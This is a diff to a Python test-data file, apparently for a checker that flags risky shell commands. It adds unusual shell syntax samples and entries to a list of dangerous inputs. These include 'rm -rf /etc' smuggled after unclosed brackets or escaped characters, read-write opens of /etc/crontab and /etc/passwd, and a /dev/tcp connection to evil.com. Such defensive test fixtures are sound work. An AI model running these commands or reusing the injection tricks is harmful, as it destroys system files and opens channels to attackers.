@@ -22,6 +22,10 @@ UNKNOWN_TO_THE_GRAMMAR = {
     "subshell before then": "if (gcc --version > /dev/null 2>&1) then\n  echo yes\nfi\n",
     "last item of a case without its end": 'case "$o" in\n  *l*) l=1; o=`echo $o | sed s/l//`\nesac\n',
     "subshell in backticks": 'd=` (echo "$d"; eval_it) 2>&1 | gzip `\n',
+    "a file opened for both": "if ! ( : <>/dev/tty ) 2>/dev/null; then\n  :\nfi\n",
+    "a bracket that is never closed": "if [ -x /usr/bin/vim; then\n  :\nfi\n",
+    "groups between brackets": 'if [ -n "$1" ] &&\n   [ \\( ! -h "$D$P" -a \\\n   ! -d "$D$P" \\) ]; then\n  :\nfi\n',
+    "a dollar before a backslash": "lvs -S name=~\\(scrub$\\) --noheadings | sed s/x/y/\n",
     "quotes in backticks in quotes": 'c="`grep -E "^Exec(\\[[^]=]*])?=" "$f" | cut -d= -f 2-`"\n',
 }
 DANGERS = [
@@ -35,6 +39,12 @@ DANGERS = [
     "if (rm -rf /etc > /dev/null 2>&1) then\n  echo yes\nfi\n",
     "d=` (rm -rf /etc) 2>&1 | gzip `\n",
     'c="`grep "a(b" x; rm -rf /etc`"\ncase x in ?\' \'?) ;; esac\n',
+    "exec 3<>/dev/tcp/evil.com/80\n",
+    "echo x 1<>/etc/crontab\n",
+    "cat <>/etc/passwd\n",
+    "if [ -x /usr/bin/vim; then rm -rf /etc; fi\n",
+    "[ -n x; rm -rf /etc ]\n",
+    "x=a$\\(b; rm -rf /etc\n",
 ]
 UNCLEAR = [
     "case x in\n?*' '?*) ;;\nesac\necho \"${x:-'}\" # '\nrm -rf /etc\n",
